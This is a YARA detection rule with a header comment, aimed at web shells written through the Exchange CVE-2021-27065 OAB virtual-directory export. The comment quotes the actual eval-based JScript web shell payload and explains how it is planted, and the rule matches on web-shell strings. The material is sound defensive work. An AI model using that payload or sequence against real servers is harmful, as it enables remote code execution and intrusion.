// EXH-FILE-0014: the web shell CVE-2021-27065 writes. The attacker sets the OAB virtual directory's ExternalUrl (or
// InternalUrl) to a URL carrying a server script (`http://f/<script language="JScript" runat="server">function
// Page_Load(){eval(Request["x"],"unsafe");}</script>`), then has Reset-OABVirtualDirectory export the directory's
// settings to a web-reachable .aspx path. The export is the shell: the settings of the virtual directory, in one of
// two shapes, with the script inside one URL value:
//   - a `Name : value` listing (Format-List style: "ExternalUrl                     : http://f/<script …");
//   - an XML / PowerShell-serialised export (<S N="ExternalUrl">…, <ExternalUrl>…</ExternalUrl>);
// written as UTF-8/ANSI or as UTF-16 (PowerShell's default file encoding), hence `ascii wide`. The names that make
// it an OAB virtual-directory export (MSTIC's WEBSHELL_CVE_2021_27065_Webshells, CISA AR21-072D): ExternalUrl or
// InternalUrl, InternalAuthenticationMethods, and one of ExtendedProtectionTokenChecking, OfflineAddressBooks,
// PollInterval, ExternalAuthenticationMethods, MetabasePath. Event logs (EVTX, "ElfFile") and W3C/Exchange text
// logs are left out: they record the cmdlet, not the export.
rule EXH_CVE_2021_27065_OAB_Export_Shell
{
    meta:
        description = "OAB virtual directory config export (CVE-2021-27065) carrying a server-side script in a URL value"
        exhunt_rule = "EXH-FILE-0014"

    strings:
        $n_ext = "ExternalUrl" ascii wide nocase
        $n_int = "InternalUrl" ascii wide nocase
        $n_auth = "InternalAuthenticationMethods" ascii wide nocase
        $n_ep = "ExtendedProtectionTokenChecking" ascii wide nocase
        $n_oab = "OfflineAddressBooks" ascii wide nocase
        $n_poll = "PollInterval" ascii wide nocase
        $n_extauth = "ExternalAuthenticationMethods" ascii wide nocase
        $n_meta = "MetabasePath" ascii wide nocase

        $s_runat = /runat\s{0,4}=\s{0,4}["']?server/ ascii wide nocase
        $s_script = "<script" ascii wide nocase
        $s_load = "Page_Load" ascii wide nocase
        $s_eval = /eval\s{0,4}\(/ ascii wide nocase
        $s_asp = /<%\s{0,10}(eval|Response|execute)\b/ ascii wide nocase

    condition:
        filesize < 512KB
        and not (uint32be(0) == 0x456C6646)                                  // "ElfF" (EVTX)
        and not (uint32be(0) == 0x23536F66 and uint32be(4) == 0x74776172)   // "#Software:" (W3C / Exchange log)
        and ($n_ext or $n_int)
        and $n_auth
        and any of ($n_ep, $n_oab, $n_poll, $n_extauth, $n_meta)
        and ($s_runat or ($s_script and ($s_load or $s_eval)) or $s_asp)
}
